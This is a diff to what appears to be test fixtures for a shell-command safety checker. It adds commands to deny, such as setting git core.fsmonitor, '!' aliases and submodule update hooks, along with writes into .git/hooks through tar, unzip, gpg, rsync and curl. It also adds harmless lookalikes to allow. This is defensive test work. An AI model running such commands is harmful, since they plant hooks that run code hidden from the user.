@@ -210,6 +210,40 @@ echo x > /etc/adze/managed.json
 cp x /usr/local/bin/git
 python3 x.py /etc/crontab
 echo x > ~/.bazelrc
+git config -f.git/config core.fsmonitor x
+git config set -f.git/config core.fsmonitor x
+git config -f.git/config alias.st '!x'
+git config -f.git/config --unset core.hooksPath
+git config --add -f.git/config include.path x
+git config -f.gitmodules submodule.x.update '!x'
+git config set -f.gitmodules submodule.x.update '!x'
+git config -f/home/u/.gitconfig core.editor x
+git config -f$HOME/.gitconfig core.editor x
+git config -f.vscode/settings.json a.b c
+git config -zf.git/config a.b c
+git config -zf .git/config a.b c
+git config --fil=.git/config a.b c
+git config --fil .git/config a.b c
+git config -f../project/.git/config a.b c
+git config rename-section -f.git/config a b
+git format-patch -o.git/hooks HEAD
+git format-patch -qo.git/hooks HEAD
+git archive -vo.vscode/x.zip HEAD
+tar -xC.git/hooks -f x.tar
+tar -cf.git/hooks/x x
+unzip -qd.git/hooks x.zip
+ln -st.git/hooks x
+csplit -sf.git/hooks/x x 1
+gpg -do.git/hooks/x y
+openssl enc -out.git/hooks/x
+script -qf.git/hooks/x
+strip -so.git/hooks/x y
+rsync -aT.git/hooks x y
+make -sC.git
+/usr/bin/time -ao.git/config ls
+strace -fo.git/config ls
+ssh -vE.git/hooks/x h
+curl -sSfLo.git/hooks/pre-commit http://h
 `
 
 const mentionAllows = `
@@ -282,4 +316,19 @@ cmake -DCMAKE_C_COMPILER=/usr/bin/gcc ..
 ./configure CC=/usr/bin/gcc
 curl --cacert /etc/ssl/certs/ca.pem -o x http://h/x
 go env GOFLAGS
+git config -f.git/config --get a.b
+git config -f.gitmodules --list
+git config -f.gitmodules -l
+git config -lf.git/config
+git config get -f.git/config a.b
+git config -fout.cfg a.b c
+git config list -f.gitmodules
+git format-patch -qoout HEAD~1
+git archive -vox.zip HEAD
+git commit -F.git/COMMIT_EDITMSG
+tar -xCout -f x.tar
+strip -sox y
+gcc -Wall -O2 -Isrc -Lout main.c
+make -sj4
+curl -sSfLoout/x http://h
 `
